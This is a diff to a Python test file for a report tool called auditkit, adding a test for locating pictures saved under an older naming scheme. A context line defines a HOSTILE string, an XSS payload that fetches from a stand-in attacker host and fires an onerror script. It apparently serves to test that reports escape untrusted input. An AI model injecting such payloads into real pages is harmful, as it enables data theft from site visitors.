@@ -13,7 +13,9 @@ from PIL import Image, ImageDraw
 from auditkit import stats
 from auditkit.errors import AuditError
 from auditkit.report import plots
+from auditkit.report.page import kept_pictures
 from auditkit.report.summary import write_report
+from auditkit.text import slug
 
 HOSTILE = '<script>fetch("http://evil.example/steal")</script><img src=http://evil.example/a.png onerror=alert(1)>'
 KINDS = [
@@ -433,3 +435,11 @@ def test_records_of_before_probes_had_outcomes_are_refused_in_one_sentence(run):
     (run / "05_audit" / "scored.jsonl").write_text('{"key": "a", "gate": "ok"}\n')
     with pytest.raises(AuditError, match="05_audit was made by an earlier auditkit"):
         write_report(run)
+
+
+def test_pictures_of_a_run_made_before_names_were_one_to_one_are_found(tmp_path):
+    (tmp_path / "DONE").write_text("2026-01-01T00:00:00+00:00\n")
+    assert tmp_path / "images" / "a-b.png.png" in kept_pictures("a:b.png", [tmp_path])
+    (tmp_path / "DONE").write_text('{"finished": "2026", "files": {}}')
+    (path,) = kept_pictures("a:b.png", [tmp_path])
+    assert path.name == f"{slug('a:b.png')}.png" != f"{slug('a-b.png')}.png"
